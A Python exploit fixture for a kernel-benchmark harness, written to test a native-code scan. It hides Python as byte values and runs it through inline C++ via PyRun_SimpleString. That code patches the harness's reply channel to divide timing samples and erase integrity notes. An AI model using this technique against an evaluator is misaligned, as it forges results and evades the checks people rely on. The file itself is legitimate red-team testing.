"""Exploit: native code rewrites the arena's replies (issue 31).

The candidate builds C++ with `torch.utils.cpp_extension.load_inline`; one function of it,
`arm`, calls the Python C API (`PyRun_SimpleString`) on a Python text that this file holds only
as a list of numbers, so no Python rule of the static scan ever sees a name. That Python wraps
`multiprocessing.connection.Connection.send_bytes` (the arena's reply channel): every reply that
carries timing samples has them divided by DIVISOR and its integrity notes emptied. The kernel
itself is honest (torch.softmax) and correct, so verification passes; only the times are forged.

Defense that must catch it: the static scan of native sources (`native_scan`), before anything
is imported -> `rejected` / `native_code` "cpp_sources line N: uses PyRun_SimpleString: calls
the Python C API". Native code can reach anything in its process, so the scan is feedback, not
the whole defence: the judge's own clock over bursts of calls is the dynamic one (see
docs/decisions/0002-native-code-scan.md).
"""

import torch
from torch.utils.cpp_extension import load_inline

DIVISOR = 3.0  # the forged time is the measured one divided by this
# the honest work of one call, in softmaxes: on the CPU one softmax of a small shape is below
# the judge clock's noise floor (judge_clock.NOISE), which hides what any forge hides of it
REPEAT = 40

_SRC = r"""
#include <torch/extension.h>
#include <string>

void arm(torch::Tensor text, double divisor) {
  auto bytes = text.contiguous();
  const uint8_t* p = bytes.data_ptr<uint8_t>();
  std::string code = "DIVISOR = " + std::to_string(divisor) + "\n";
  code.append(reinterpret_cast<const char*>(p), bytes.numel());
  PyGILState_STATE gil = PyGILState_Ensure();
  PyRun_SimpleString(code.c_str());
  PyGILState_Release(gil);
}
"""

# the Python text that wraps the reply channel, as its UTF-8 bytes
# fmt: off
_TEXT = [
    105, 109, 112, 111, 114, 116, 32, 106, 115, 111, 110, 10, 105, 109, 112, 111, 114, 116, 32,
    109, 117, 108, 116, 105, 112, 114, 111, 99, 101, 115, 115, 105, 110, 103, 46, 99, 111, 110,
    110, 101, 99, 116, 105, 111, 110, 32, 97, 115, 32, 95, 99, 10, 10, 95, 111, 114, 105, 103,
    32, 61, 32, 95, 99, 46, 67, 111, 110, 110, 101, 99, 116, 105, 111, 110, 46, 115, 101, 110,
    100, 95, 98, 121, 116, 101, 115, 10, 10, 10, 100, 101, 102, 32, 95, 102, 111, 114, 103, 101,
    100, 40, 115, 101, 108, 102, 44, 32, 98, 117, 102, 44, 32, 42, 97, 114, 103, 115, 44, 32, 42,
    42, 107, 119, 97, 114, 103, 115, 41, 58, 10, 32, 32, 32, 32, 116, 114, 121, 58, 10, 32, 32,
    32, 32, 32, 32, 32, 32, 109, 115, 103, 32, 61, 32, 106, 115, 111, 110, 46, 108, 111, 97, 100,
    115, 40, 98, 121, 116, 101, 115, 40, 98, 117, 102, 41, 41, 10, 32, 32, 32, 32, 101, 120, 99,
    101, 112, 116, 32, 69, 120, 99, 101, 112, 116, 105, 111, 110, 58, 10, 32, 32, 32, 32, 32, 32,
    32, 32, 114, 101, 116, 117, 114, 110, 32, 95, 111, 114, 105, 103, 40, 115, 101, 108, 102, 44,
    32, 98, 117, 102, 44, 32, 42, 97, 114, 103, 115, 44, 32, 42, 42, 107, 119, 97, 114, 103, 115,
    41, 10, 32, 32, 32, 32, 105, 102, 32, 105, 115, 105, 110, 115, 116, 97, 110, 99, 101, 40, 109,
    115, 103, 44, 32, 100, 105, 99, 116, 41, 32, 97, 110, 100, 32, 34, 115, 97, 109, 112, 108,
    101, 115, 34, 32, 105, 110, 32, 109, 115, 103, 58, 10, 32, 32, 32, 32, 32, 32, 32, 32, 102,
    111, 114, 32, 107, 101, 121, 32, 105, 110, 32, 40, 34, 115, 97, 109, 112, 108, 101, 115, 34,
    44, 32, 34, 104, 111, 115, 116, 34, 44, 32, 34, 115, 117, 98, 109, 105, 116, 34, 41, 58, 10,
    32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 105, 102, 32, 105, 115, 105, 110, 115, 116,
    97, 110, 99, 101, 40, 109, 115, 103, 46, 103, 101, 116, 40, 107, 101, 121, 41, 44, 32, 108,
    105, 115, 116, 41, 58, 10, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32,
    109, 115, 103, 91, 107, 101, 121, 93, 32, 61, 32, 91, 118, 32, 47, 32, 68, 73, 86, 73, 83,
    79, 82, 32, 102, 111, 114, 32, 118, 32, 105, 110, 32, 109, 115, 103, 91, 107, 101, 121, 93,
    93, 10, 32, 32, 32, 32, 32, 32, 32, 32, 109, 115, 103, 91, 34, 105, 110, 116, 101, 103, 114,
    105, 116, 121, 34, 93, 32, 61, 32, 91, 93, 10, 32, 32, 32, 32, 32, 32, 32, 32, 98, 117, 102,
    32, 61, 32, 106, 115, 111, 110, 46, 100, 117, 109, 112, 115, 40, 109, 115, 103, 41, 46, 101,
    110, 99, 111, 100, 101, 40, 41, 10, 32, 32, 32, 32, 114, 101, 116, 117, 114, 110, 32, 95, 111,
    114, 105, 103, 40, 115, 101, 108, 102, 44, 32, 98, 117, 102, 44, 32, 42, 97, 114, 103, 115,
    44, 32, 42, 42, 107, 119, 97, 114, 103, 115, 41, 10, 10, 10, 95, 99, 46, 67, 111, 110, 110,
    101, 99, 116, 105, 111, 110, 46, 115, 101, 110, 100, 95, 98, 121, 116, 101, 115, 32, 61, 32,
    95, 102, 111, 114, 103, 101, 100, 10,]

_ext = load_inline("cockpit_native_forge", cpp_sources=_SRC, functions=["arm"])
_ext.arm(torch.tensor(_TEXT, dtype=torch.uint8), DIVISOR)


def kernel(x: torch.Tensor) -> torch.Tensor:
    for _ in range(REPEAT - 1):
        torch.softmax(x, dim=-1)
    return torch.softmax(x, dim=-1)
